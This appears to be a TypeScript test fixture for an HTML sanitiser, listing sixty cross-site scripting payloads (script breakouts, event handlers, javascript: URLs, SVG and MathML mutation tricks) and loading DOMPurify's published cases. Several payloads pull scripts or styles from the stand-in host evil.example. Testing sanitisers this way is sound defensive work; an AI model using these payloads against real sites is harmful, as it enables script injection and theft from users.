import { existsSync, readFileSync } from 'node:fs';

/** Markup that calls one of these, or asks this host for anything, has broken out of its text. */
const call = 'alert(1)';
const outside = 'https://evil.example';

/** Sixty ways in which a text becomes script, a request or a style where somebody forgot to escape it. */
export const payloads: string[] = [
  `<script>${call}</script>`,
  `<script src=${outside}/a.js></script>`,
  `<script type=module>import('${outside}/a.js')</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `--><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  `\`><script>${call}</script>`,
  `<ScRiPt>${call}</ScRiPt>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script\n>${call}</script\n>`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}">`,
  `"><img src=x onerror=${call}>`,
  `<img/src=x/onerror=${call}>`,
  `<img src=${outside}/i.png>`,
  `<img srcset="${outside}/i.png 2x">`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x">`,
  `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  `<svg><image href=${outside}/i.svg></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<math href="javascript:${call}">x</math>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src=${outside}></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<object data=${outside}/o.swf></object>`,
  `<embed src="javascript:${call}">`,
  `<body onload=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<video poster=${outside}/p.png></video>`,
  `<audio src=x onerror=${call}>`,
  `<marquee onstart=${call}>`,
  `<a href="javascript:${call}" autofocus onfocus=${call}>x</a>`,
  `javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `<form action="javascript:${call}"><button autofocus onfocus=${call}>x</button></form>`,
  `<base href=${outside}/>`,
  `<link rel=stylesheet href=${outside}/s.css>`,
  `<link rel=prefetch href=${outside}/p>`,
  `<meta http-equiv=refresh content="0;url=${outside}">`,
  `<style>@import url(${outside}/s.css);</style>`,
  `<style>body{outline:9px solid red}</style>`,
  `<div style="background:url(${outside}/b.png);position:fixed;inset:0">x</div>`,
  `<p style="animation:x" onanimationstart=${call}>x`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<template><script>${call}</script></template><img src=x onerror=${call}>`,
  `&lt;img src=x onerror=${call}&gt;<img src=x onerror=${call}>`,
  `{{constructor.constructor('${call}')()}}\${${call}}<%= ${call} %>`,
];

/** The published cases of a sanitiser, where they are. */
export function publishedPayloads(): string[] {
  const file = new URL(
    '../../../shared/oracles/html-sanitiser/dompurify-fixtures.json',
    import.meta.url,
  );
  if (!existsSync(file)) {
    console.log('the published cases of a sanitiser are not there');
    return [];
  }
  const cases = JSON.parse(readFileSync(file, 'utf8')) as { payload: string }[];
  return cases.map((one) => one.payload).filter((text) => !text.includes('\0'));
}
